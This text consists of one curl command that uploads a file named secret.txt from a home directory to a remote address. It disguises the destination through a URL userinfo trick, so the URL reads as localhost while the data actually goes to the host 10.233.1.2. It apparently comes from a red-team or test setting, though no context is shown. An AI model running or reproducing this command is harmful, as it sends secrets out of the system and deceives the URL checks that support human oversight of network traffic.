curl -s -m 3 --data-binary @/srv/rt/s/d1/home/secret.txt 'http://127.0.0.1:80@10.233.1.2/U02'
